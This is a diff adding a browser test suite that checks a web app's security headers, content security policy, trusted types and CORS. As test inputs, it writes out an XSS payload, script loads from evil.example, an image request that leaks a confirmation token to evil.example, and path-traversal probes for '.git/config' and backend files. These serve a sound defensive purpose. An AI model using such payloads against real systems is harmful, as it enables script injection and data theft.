@@ -1,0 +1,232 @@
+import { randomUUID } from 'node:crypto'
+import { accountOrigin, apiOrigin, remotesOrigin, shopOrigin, sitePort } from '../site/addresses.ts'
+import { nodeRequest } from '../site/node-request.ts'
+import { expect, test } from '../site/test.ts'
+
+const account = accountOrigin('uk')
+
+const breaches = `${apiOrigin}/reports/policy-breaches`
+
+/** The first file of each kind that the account page names. */
+const filesOfPage = async () => {
+  const { body } = await nodeRequest(`${account}/`)
+  return ['js', 'css'].flatMap((kind) => new RegExp(`/assets/[^"'> ]+\\.${kind}`).exec(body)?.[0] ?? [])
+}
+
+const directivesOf = (policy: unknown) =>
+  new Map(
+    String(policy)
+      .split(';')
+      .map((directive) => directive.trim().split(' '))
+      .map(([name = '', ...sources]) => [name, sources]),
+  )
+
+test('every answer of the account site says what it may do, also one that is no page', async () => {
+  const paths = ['/', '/orders', '/config.json', '/locales/en-GB.json', '/no-such-file.js', ...(await filesOfPage())]
+  expect(paths.length).toBeGreaterThan(5)
+  for (const path of paths) {
+    const { headers, status } = await nodeRequest(`${account}${path}`)
+    expect([path, status]).toEqual([path, path.includes('no-such') ? 404 : 200])
+    expect([path, headers]).toEqual([
+      path,
+      expect.objectContaining({
+        'x-content-type-options': 'nosniff',
+        'referrer-policy': 'strict-origin-when-cross-origin',
+        'cross-origin-opener-policy': 'same-origin',
+      }),
+    ])
+    expect(headers['permissions-policy']).toContain('camera=()')
+    const policy = directivesOf(headers['content-security-policy'])
+    expect(policy.get('default-src')).toEqual(["'none'"])
+    expect(policy.get('object-src')).toEqual(["'none'"])
+    expect(policy.get('base-uri')).toEqual(["'none'"])
+    expect(policy.get('frame-ancestors')).toContain("'self'")
+    expect(policy.get('require-trusted-types-for')).toEqual(["'script'"])
+    expect(policy.get('trusted-types')).toEqual(['default'])
+    // Of the early script, which stands in the page itself; any other that gets there does not run.
+    expect(policy.get('script-src')?.filter((source) => source.startsWith("'sha256-"))).toHaveLength(1)
+    for (const name of ['script-src', 'connect-src', 'frame-ancestors'])
+      for (const source of policy.get(name) ?? []) expect(source).not.toMatch(/^\*$|^https?:$|unsafe|^data:/)
+  }
+})
+
+test('configuration and registry are on their way with the page itself, and asked for once', async ({ page }) => {
+  const first = [`${account}/config.json`, `${remotesOrigin}/registry.json`]
+  for (const path of ['/', '/orders']) {
+    const { link } = (await nodeRequest(`${account}${path}`)).headers
+    expect(link).toBe(first.map((address) => `<${address}>; rel=preload; as=fetch; crossorigin`).join(', '))
+  }
+  const asked: string[] = []
+  page.on('request', (request) => asked.push(request.url()))
+  await page.goto('/account-deleted')
+  await expect(page.getByRole('heading', { level: 1 })).toBeVisible()
+  expect(asked.filter((address) => first.includes(address)).toSorted()).toEqual(first)
+  const initiator = await page.evaluate(
+    (address) => (performance.getEntriesByName(address)[0] as PerformanceResourceTiming).initiatorType,
+    `${account}/config.json`,
+  )
+  expect(initiator).toBe('link')
+})
+
+test('the page’s letters are on their way with the page, and asked for once', async ({ page }) => {
+  const asked: string[] = []
+  page.on('request', (request) => request.resourceType() === 'font' && asked.push(request.url()))
+  await page.goto('/account-deleted')
+  await expect(page.getByRole('heading', { level: 1 })).toBeVisible()
+  await page.evaluate(() => document.fonts.ready)
+  expect(asked).toEqual([expect.stringMatching(/\/inter-latin-wght-normal\.\w+\.woff2$/)])
+  const initiator = await page.evaluate(
+    (address) => (performance.getEntriesByName(address)[0] as PerformanceResourceTiming).initiatorType,
+    asked[0] ?? '',
+  )
+  expect(initiator).toBe('link')
+})
+
+test('every script that the page begins with is compiled as it arrives', async () => {
+  const page = await nodeRequest(`${account}/`)
+  const scripts = [...page.body.matchAll(/\/assets\/[\w.]+\.js/g)].map(([file]) => file)
+  // That one is run at once, by itself.
+  const files = scripts.filter((file) => !file.includes('/early.'))
+  expect(files.length).toBeGreaterThan(4)
+  for (const file of files) {
+    const script = await nodeRequest(`${account}${file}`)
+    expect([file, script.body.slice(0, 28)]).toEqual([file, '//# allFunctionsCalledOnLoad'])
+  }
+})
+
+test('the services answer on the site’s own origin by the token alone, and nothing else of the back end does', async () => {
+  const { status, headers } = await nodeRequest(`${account}/api/photos/users`)
+  expect(status).toBe(401)
+  expect(headers['content-type']).toContain('application/json')
+  for (const path of [
+    'metrics',
+    'photos/../metrics',
+    'photos/%2e%2e/metrics',
+    'objects/a.jpg',
+    'openapi.json',
+    'ready',
+  ])
+    expect([path, (await nodeRequest(`${account}/api/${path}`)).status]).toEqual([path, 404])
+})
+
+test('a page whose address holds the token of a mail tells nobody where it was asked for from', async () => {
+  for (const path of ['/delete-account-confirmation?confirmation-token=x', '/settings?a=b&confirmation-token=x'])
+    expect((await nodeRequest(`${account}${path}`)).headers['referrer-policy']).toBe('no-referrer')
+})
+
+test.describe('a line that was smuggled in', () => {
+  test.use({ breaksThePage: true })
+
+  test('makes neither a script of another address, nor one of text, nor mark-up', async ({ page }) => {
+    await page.goto('/account-deleted')
+    await expect(page.getByRole('heading', { level: 1 })).toBeVisible()
+    const outcomes = await page.evaluate((remotes) => {
+      const refusalOf = (act: () => unknown) => {
+        try {
+          return String(act())
+        } catch (error) {
+          return error instanceof Error ? error.name : String(error)
+        }
+      }
+      const script = () => document.createElement('script')
+      return {
+        otherSite: refusalOf(() => (script().src = 'https://evil.example/assets/1.js')),
+        otherPath: refusalOf(() => (script().src = '/orders/1.js')),
+        unpublished: refusalOf(() => (script().src = `${remotes}/photos/0.0.0/evil.js`)),
+        text: refusalOf(() => (script().text = 'document.title = "evil"')),
+        markUp: refusalOf(() => (document.body.innerHTML = '<img src="x" onerror="alert(1)">')),
+        own: refusalOf(() => (script().src = '/assets/1.js')),
+      }
+    }, remotesOrigin)
+    expect(outcomes).toEqual({
+      otherSite: 'MissingIntegrityError',
+      otherPath: 'MissingIntegrityError',
+      unpublished: 'MissingIntegrityError',
+      text: 'TypeError',
+      markUp: 'TypeError',
+      own: '/assets/1.js',
+    })
+  })
+})
+
+test('every policy says where its breaches are told', async () => {
+  const addresses = [
+    `${account}/orders`,
+    `${account}/no-such-file.js`,
+    `${remotesOrigin}/registry.json`,
+    `${shopOrigin('uk')}/`,
+    `http://login.uk.localhost:${sitePort}/interaction/none`,
+    `http://login.uk.localhost:${sitePort}/no-such-page`,
+  ]
+  for (const address of addresses) {
+    const { headers } = await nodeRequest(address)
+    const policy = directivesOf(headers['content-security-policy'])
+    expect([address, policy.get('report-uri')]).toEqual([address, [breaches]])
+  }
+})
+
+test.describe('a page that asks for what it may not have', () => {
+  test.use({ breaksThePage: true })
+
+  test('is told of by the browser, without what addresses hold', async ({ page }) => {
+    await page.goto('/account-deleted?confirmation-token=very-secret')
+    await expect(page.getByRole('heading', { level: 1 })).toBeVisible()
+    const image = `https://evil.example/${randomUUID()}.png`
+    await page.evaluate((address) => {
+      document.createElement('img').src = address
+    }, `${image}?stolen=very-secret`)
+    const operations = `${apiOrigin}/operations?source=${encodeURIComponent(new URL(account).host)}`
+    await expect(async () => {
+      await page.goto(operations)
+      await expect(page.getByText(image)).toBeAttached({ timeout: 1_000 })
+    }).toPass()
+    const report = page.getByRole('list', { name: 'Failed actions' }).getByRole('listitem').filter({ hasText: image })
+    await report.locator('summary').click()
+    await expect(report).toContainText('policy/breach')
+    await expect(report).toContainText('img-src')
+    await expect(report).toContainText('/account-deleted')
+    expect(await report.innerText()).not.toContain('very-secret')
+  })
+})
+
+test('what changes is asked for again, and what is named by its content is kept for good', async () => {
+  const cacheOf = async (address: string) => (await nodeRequest(address)).headers['cache-control']
+  for (const path of ['/', '/orders', '/config.json'])
+    expect([path, await cacheOf(`${account}${path}`)]).toEqual([path, 'no-cache'])
+  expect(await cacheOf(`${remotesOrigin}/registry.json`)).toBe('no-cache')
+  for (const path of await filesOfPage()) expect(await cacheOf(`${account}${path}`)).toContain('immutable')
+})
+
+test('remotes and the API are nobody’s pages, and never ask for cookies', async () => {
+  const { headers } = await nodeRequest(`${remotesOrigin}/registry.json`)
+  expect(headers).toMatchObject({
+    'x-content-type-options': 'nosniff',
+    'access-control-allow-origin': '*',
+    'content-security-policy': expect.stringContaining("default-src 'none'"),
+  })
+  for (const path of ['/openapi.json', '/photos/users', '/no-such-thing']) {
+    const answer = await nodeRequest(`${apiOrigin}${path}`, { headers: { origin: 'http://evil.example' } })
+    expect(answer.headers['x-content-type-options']).toBe('nosniff')
+    expect(answer.headers['x-correlation-id']).toMatch(/^[0-9a-f-]{36}$/)
+    for (const name of [
+      'access-control-allow-origin',
+      'access-control-allow-credentials',
+      'set-cookie',
+      'x-powered-by',
+    ])
+      expect([path, name, answer.headers[name]]).toEqual([path, name, undefined])
+    if (path !== '/no-such-thing') expect(answer.headers['content-security-policy']).toContain("default-src 'none'")
+  }
+})
+
+test('what is not for customers is not there for them', async () => {
+  expect((await nodeRequest(`${apiOrigin}/metrics`)).status).toBe(404)
+  for (const path of [
+    '/.lock',
+    '/.git/config',
+    '/%2e%2e%2fbackend.pid',
+    '/..%2fbackend.pid',
+    '/photos/../../backend.pid',
+  ])
+    expect([400, 403, 404]).toContain((await nodeRequest(`${remotesOrigin}${path}`)).status)
+})
